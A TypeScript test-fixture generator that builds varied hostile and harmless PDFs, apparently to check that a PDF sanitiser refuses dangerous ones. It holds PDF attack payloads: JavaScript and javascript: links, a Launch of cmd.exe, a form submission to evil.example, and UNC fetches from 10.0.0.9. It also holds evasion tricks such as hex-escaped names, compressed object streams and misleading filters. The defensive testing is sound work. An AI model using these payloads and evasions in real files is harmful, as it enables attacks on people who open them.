import { deflateSync } from 'node:zlib';
import { type Dice, dice } from './dice.ts';
import { pdf, stream } from './pdf.ts';

/** A dictionary to be written in any spelling: names begin with a slash, everything else stands as it is. */
type Payload = { what: string; text: string };

/** Actions by class: what they do, not how they are written. */
const hostileActions: Payload[] = [
  { what: 'a script', text: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>' },
  { what: 'a script in a stream', text: '<< /S /JavaScript /JS 90 0 R >>' },
  {
    what: 'a script that comes next',
    text: '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (1) >> >>',
  },
  { what: 'a rendition with a script', text: '<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>' },
  { what: 'a program', text: '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' },
  {
    what: 'a file of another machine',
    text: '<< /S /GoToR /F (\\\\\\\\10.0.0.9\\\\share\\\\a.pdf) /D [0 /Fit] >>',
  },
  {
    what: 'a form that is sent',
    text: '<< /S /SubmitForm /F << /FS /URL /F (http://evil.example) >> /Flags 4 >>',
  },
  { what: 'data that are taken in', text: '<< /S /ImportData /F (\\\\\\\\10.0.0.9\\\\a.fdf) >>' },
  { what: 'a file inside', text: '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>' },
  { what: 'a link over the network', text: '<< /S /URI /URI (file://10.0.0.9/share/a) >>' },
  { what: 'a link that runs', text: '<< /S /URI /URI (javascript:alert\\(1\\)) >>' },
  { what: 'a link with a hidden scheme', text: '<< /S /URI /URI <6A617661736372697074 3A616C657274> >>' },
  { what: 'a sound', text: '<< /S /Sound /Sound 90 0 R >>' },
  { what: 'a film', text: '<< /S /Movie /Operation /Play >>' },
  { what: 'a script by a kind named elsewhere', text: '<< /S 91 0 R /JS 90 0 R >>' },
];

const harmlessActions: Payload[] = [
  { what: 'a page', text: '<< /S /GoTo /D [3 0 R /Fit] >>' },
  { what: 'the next page', text: '<< /S /Named /N /NextPage >>' },
  {
    what: 'pages one after the other',
    text: '<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /LastPage >>] >>',
  },
];
const harmlessLinks: Payload[] = [
  { what: 'a web page', text: '<< /S /URI /URI (https://start.example/Launch?a=JavaScript) >>' },
  { what: 'a letter', text: '<< /S /URI /URI (mailto:team@start.example) >>' },
  { what: 'an address without a scheme', text: '<< /S /URI /URI (www.start.example/a) >>' },
];

/** Where an action may stand. `by itself`: it runs without a click. */
const places: { what: string; byItself: boolean; of: (action: string) => Parts }[] = [
  { what: 'on opening', byItself: true, of: (a) => ({ catalog: `/OpenAction ${a}` }) },
  { what: 'on closing', byItself: true, of: (a) => ({ catalog: `/AA << /WC ${a} >>` }) },
  { what: 'on a page', byItself: true, of: (a) => ({ page: `/AA << /O ${a} >>` }) },
  {
    what: 'on a link',
    byItself: false,
    of: (a) => ({ page: `/Annots [${annotation(`/Subtype /Link /A ${a}`)}]` }),
  },
  {
    what: 'on a link that is looked at',
    byItself: true,
    of: (a) => ({ page: `/Annots [${annotation(`/Subtype /Link /AA << /PV ${a} >>`)}]` }),
  },
  {
    what: 'on a field',
    byItself: true,
    of: (a) => ({
      catalog: '/AcroForm << /Fields [80 0 R] >>',
      page: '/Annots [80 0 R]',
      more: { 80: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 9 9] /AA << /K ${a} >> >>` },
    }),
  },
  {
    what: 'in the outline',
    byItself: false,
    of: (a) => ({
      catalog: '/Outlines 81 0 R',
      more: {
        81: '<< /First 82 0 R /Last 82 0 R /Count 1 >>',
        82: `<< /Title (a) /Parent 81 0 R /A ${a} >>`,
      },
    }),
  },
];

/** Things that are hostile wherever they are, by their parts. */
const hostileThings: (Parts & { what: string })[] = [
  {
    what: 'named scripts',
    catalog: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>',
  },
  {
    what: 'a file in the names',
    catalog: '/Names << /EmbeddedFiles << /Names [(a) << /F (a) /EF << /F 90 0 R >> >>] >> >>',
  },
  {
    what: 'a file on a page',
    page: `/Annots [${annotation('/Subtype /FileAttachment /FS << /F (a) /EF << /F 90 0 R >> >>')}]`,
  },
  { what: 'a file beside the document', catalog: '/AF [<< /F (a) /EF << /F 90 0 R >> >>]' },
  {
    what: 'a portfolio',
    catalog:
      '/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a) << /UF (a) /EF << /UF 90 0 R >> >>] >> >>',
  },
  { what: 'a form of XML', catalog: '/AcroForm << /Fields [] /XFA 90 0 R >>' },
  { what: 'rich media', page: `/Annots [${annotation('/Subtype /RichMedia')}]` },
  { what: 'a drawing in space', page: `/Annots [${annotation('/Subtype /3D')}]` },
  {
    what: 'data from elsewhere',
    more: { 92: '<< /Length 0 /F (\\\\\\\\10.0.0.9\\\\a) >>\nstream\n\nendstream' },
  },
  {
    what: 'a page from elsewhere',
    more: {
      92: '<< /Subtype /Form /Ref << /F (\\\\\\\\10.0.0.9\\\\a.pdf) /Page 0 >> /Length 0 >>\nstream\n\nendstream',
    },
  },
  { what: 'a password', trailer: '/Encrypt << /Filter /Standard /V 2 /R 3 /P -3904 >>' },
];

type Parts = { catalog?: string; page?: string; trailer?: string; more?: Record<number, string> };

function annotation(rest: string): string {
  return `<< /Type /Annot /Rect [0 0 9 9] ${rest} >>`;
}

export type VariedFile = { what: string; fileName: string; bytes: Buffer };

/** So many PDFs that must be refused, each another class in another place and another spelling. */
export function variedHostilePdfs(count: number, seed: number): VariedFile[] {
  return Array.from({ length: count }, (_, n) => {
    const roll = dice(seed * 7919 + n);
    if (n % 4 === 3) {
      const { what, ...parts } =
        hostileThings[Math.floor(n / 4) % hostileThings.length] ?? roll.one(hostileThings);
      return written(`${what}`, parts, roll, n);
    }
    const action = hostileActions[n % hostileActions.length] ?? roll.one(hostileActions);
    const place = roll.one(places);
    return written(`${action.what} ${place.what}`, place.of(action.text), roll, n);
  });
}

/** So many PDFs in the same spellings that must be taken. */
export function variedHarmlessPdfs(count: number, seed: number): VariedFile[] {
  return Array.from({ length: count }, (_, n) => {
    const roll = dice(seed * 104_729 + n);
    const place = roll.one(places);
    const action = roll.one(place.byItself ? harmlessActions : [...harmlessActions, ...harmlessLinks]);
    return written(`${action.what} ${place.what}`, place.of(action.text), roll, n, false);
  });
}

const helpers: Record<number, string> = {
  90: '<< /Length 14 >>\nstream\napp.alert(1);1\nendstream',
  91: '/JavaScript',
};

/** Writes the parts as a file: plain or in an object stream, by reference or not, spelled any way. */
function written(what: string, parts: Parts, roll: Dice, n: number, hostile = true): VariedFile {
  const spell = speller(roll, hostile);
  const objects: Record<number, string> = {};
  if (hostile) Object.assign(objects, helpers);
  for (const [number, text] of Object.entries(parts.more ?? {})) objects[Number(number)] = text;
  let { catalog = '', page = '' } = parts;
  const hides: string[] = [];
  // What stands in the catalog and on the page goes behind a reference, sometimes twice.
  for (let depth = roll.below(3); depth > 0; depth -= 1) {
    const number = 60 + depth;
    const moved = (text: string) => {
      const open = text.indexOf('<<');
      if (open < 0 || !text.trimEnd().endsWith('>>')) return text;
      objects[number] = text.slice(open);
      return `${text.slice(0, open)}${number} 0 R`;
    };
    if (catalog && !catalog.includes('] >>') && catalog.split(' /').length < 9) catalog = moved(catalog);
  }
  const plain: Record<number, string> = {};
  const packed: Record<number, string> = {};
  const packing = roll.one(['plain', 'packed', 'untyped', 'misleading', 'indirect'] as const);
  for (const [number, text] of Object.entries(objects)) {
    const isStream = text.includes('stream\n');
    if (packing === 'plain' || isStream) plain[Number(number)] = isStream ? text : spell(text);
    else packed[Number(number)] = spell(text);
  }
  hides.push(packing);
  const bytes = assemble({
    catalog: spell(catalog),
    page: spell(page),
    trailer: spell(parts.trailer ?? ''),
    plain,
    packed,
    packing,
  });
  return { what: `${n}: ${what} (${hides.join(', ')})`, fileName: `${n}.pdf`, bytes };
}

type Assembly = {
  catalog: string;
  page: string;
  trailer: string;
  plain: Record<number, string>;
  packed: Record<number, string>;
  packing: 'plain' | 'packed' | 'untyped' | 'misleading' | 'indirect';
};

/** One revision of `pdf()`, and another that adds the objects with a cross-reference stream, as programs save changes. */
function assemble({ catalog, page, trailer, plain, packed, packing }: Assembly): Buffer {
  const first = pdf();
  const pieces: Buffer[] = [first];
  let at = first.length;
  const places: [number: number, type: 1 | 2, where: number, index: number][] = [];
  const add = (number: number, content: Buffer | string) => {
    places.push([number, 1, at, 0]);
    const piece = Buffer.concat([
      Buffer.from(`${number} 0 obj\n`),
      Buffer.from(content),
      Buffer.from('\nendobj\n'),
    ]);
    pieces.push(piece);
    at += piece.length;
  };
  add(1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`);
  add(3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${page} >>`);
  for (const [number, text] of Object.entries(plain)) add(Number(number), Buffer.from(text, 'latin1'));
  const inside = Object.entries(packed);
  if (inside.length > 0) {
    const head: string[] = [];
    let body = '';
    for (const [number, text] of inside) {
      head.push(`${number} ${body.length}`);
      body += `${text}\n`;
    }
    const begin = `${head.join(' ')}\n`;
    const data = deflateSync(Buffer.from(begin + body, 'latin1'));
    const common = `/N ${inside.length} /First ${begin.length}`;
    if (packing === 'indirect') {
      add(71, `/FlateDecode`);
      add(72, String(data.length));
      add(
        70,
        Buffer.concat([
          Buffer.from(`<< /Type /ObjStm ${common} /Filter 71 0 R /Length 72 0 R >>\nstream\r\n`),
          data,
          Buffer.from('\r\nendstream'),
        ]),
      );
    } else {
      const dictionary = {
        plain: '',
        packed: `/Type /ObjStm ${common} /Filter /FlateDecode`,
        untyped: `${common} /Filter /FlateDecode`,
        misleading: `/Type /ObjStm /Note (/Filter /DCTDecode) ${common} /Extra << /Filter /ASCIIHexDecode >> /Filter /FlateDecode`,
      }[packing];
      add(70, stream(dictionary, data));
    }
    for (const [index, [number]] of inside.entries()) places.push([Number(number), 2, 70, index]);
  }
  const rows = places.toSorted((a, b) => a[0] - b[0]);
  const table = Buffer.alloc((rows.length + 1) * 7);
  const index: string[] = [];
  for (const [n, [number, type, where, place]] of [...rows, [99, 1, at, 0] as const].entries()) {
    table.writeUInt8(type, n * 7);
    table.writeUInt32BE(where, n * 7 + 1);
    table.writeUInt16BE(place, n * 7 + 5);
    index.push(`${number} 1`);
  }
  const previous = Number(/startxref\n(\d+)/.exec(first.toString('latin1'))?.[1]);
  const reference = stream(
    `/Type /XRef /Size 100 /Root 1 0 R /Prev ${previous} /W [1 4 2] /Index [${index.join(' ')}] ${trailer}`,
    table,
  );
  pieces.push(Buffer.from('99 0 obj\n'), reference, Buffer.from(`\nendobj\nstartxref\n${at}\n%%EOF\n`));
  return Buffer.concat(pieces);
}

/** Writes a text of tokens in one of the spellings that mean the same. */
function speller(roll: Dice, hostile: boolean): (text: string) => string {
  const escapes = roll.chance(0.5);
  const comments = hostile && roll.chance(0.3);
  const tight = roll.chance(0.3);
  return (text) =>
    text.replace(/\((?:\\.|[^\\()])*\)|\/[A-Za-z0-9]+| /g, (token) => {
      if (token.startsWith('(')) return token;
      if (token === ' ') return comments && roll.chance(0.3) ? ' %x\n' : roll.one([' ', '\n', '\t', '\r\n']);
      if (!escapes) return token;
      const spelled = token
        .slice(1)
        .replace(/[A-Za-z]/g, (letter) =>
          roll.chance(0.3) ? `#${letter.charCodeAt(0).toString(16)}` : letter,
        );
      return `${tight ? '' : ' '}/${spelled}`;
    });
}
